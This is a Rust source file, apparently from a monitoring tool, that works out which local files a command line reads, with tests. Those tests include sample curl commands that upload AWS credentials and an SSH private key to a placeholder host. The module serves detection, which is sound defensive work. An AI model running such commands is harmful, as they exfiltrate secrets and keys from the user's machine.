//! Files that a command line names.
//!
//! `curl -T ~/.aws/credentials`, `-F file=@x`, `--data-binary @x`, `--file=x`, `if=x`: the command itself says what it
//! reads, so no open event is needed (`evidence: argv`). Relative names are resolved against the working directory.

use crate::model::ExecFacts;

/// Paths looked at in one command line at most.
const MAX_PATHS: usize = 256;

/// Calls `found` with every absolute path that an argument may mean, but for those that are known to be none that is read.
pub fn paths(facts: &ExecFacts, spared: &[Box<str>], mut found: impl FnMut(&[u8])) {
    let candidates = facts.args.iter().skip(1).flat_map(|arg| spellings(arg));
    let candidates =
        candidates.filter(|path| !spared.iter().any(|spared| **spared == **path)).take(MAX_PATHS);
    for path in candidates.filter(|path| path.starts_with('/') || facts.cwd.is_some()) {
        found(&resolved(path, facts));
    }
}

/// The path as the process means it: relative to its working directory, `~/` at home.
pub fn resolved(path: &str, facts: &ExecFacts) -> Vec<u8> {
    let home = || facts.env.iter().find(|(name, _)| &**name == "HOME").map(|(_, home)| home.as_bytes());
    let (base, rest) = match (path.strip_prefix("~/").zip(home()), &facts.cwd) {
        (Some((rest, home)), _) => (home, rest),
        (None, Some(cwd)) if !path.starts_with('/') => {
            (cwd.as_bytes(), path.strip_prefix("./").unwrap_or(path))
        }
        _ => return path.as_bytes().to_vec(),
    };
    [base, b"/", rest.as_bytes()].concat()
}

/// The ways one argument may hold paths: itself, as a list that `curl -T` takes apart (`{a,b}`), after `@`, after `=`, after `=@`, as a `file:` URL. URLs of other kinds hold none.
fn spellings(arg: &str) -> impl Iterator<Item = &str> {
    let list = arg.strip_prefix('{').and_then(|list| list.strip_suffix('}'));
    let listed = list.into_iter().flat_map(|list| list.split(','));
    let whole = arg.strip_prefix("file://").unwrap_or(arg);
    let after_at = arg.strip_prefix('@');
    let value = arg.split_once('=').map(|(_, value)| value.trim_start_matches(['@', '<']));
    let value = value.map(|value| value.strip_prefix("file://").unwrap_or(value));
    let value = value.map(|value| value.split_once(';').map_or(value, |(path, _)| path));
    let plausible = |path: &&str| {
        !path.is_empty() && path.len() <= 4096 && !path.starts_with('-') && !path.contains("://")
    };
    [Some(whole), after_at, value].into_iter().flatten().chain(listed).filter(plausible)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn named(args: &[&str]) -> Vec<String> {
        let facts = ExecFacts {
            args: args.iter().map(|arg| Box::from(*arg)).collect(),
            cwd: Some("/Users/a".into()),
            ..ExecFacts::default()
        };
        let mut all = Vec::new();
        paths(&facts, &[], |path| all.push(String::from_utf8_lossy(path).into_owned()));
        all
    }

    #[test]
    fn finds_paths_in_the_usual_upload_forms() {
        let table: [(&[&str], &str); 7] = [
            (&["curl", "-T", ".aws/credentials", "https://x.test/"], "/Users/a/.aws/credentials"),
            (
                &["curl", "-F", "file=@/Users/a/.ssh/id_rsa;type=text/plain", "https://x.test/"],
                "/Users/a/.ssh/id_rsa",
            ),
            (&["curl", "--data-binary", "@/tmp/x", "https://x.test/"], "/tmp/x"),
            (&["aws", "s3api", "put-object", "--body=./x"], "/Users/a/x"),
            (&["curl", "-T", "{/etc/hosts,/Users/a/x}", "https://x.test/"], "/Users/a/x"),
            (&["dd", "if=/Users/a/x"], "/Users/a/x"),
            (&["az", "upload", "file:///Users/a/x"], "/Users/a/x"),
        ];
        for (args, path) in table {
            assert!(named(args).iter().any(|found| found == path), "{args:?} gave {:?}", named(args));
        }
    }

    #[test]
    fn urls_and_options_are_no_paths() {
        assert_eq!(
            named(&["curl", "--silent", "https://content.dropboxapi.com/2/files/upload"]),
            [] as [&str; 0]
        );
    }
}
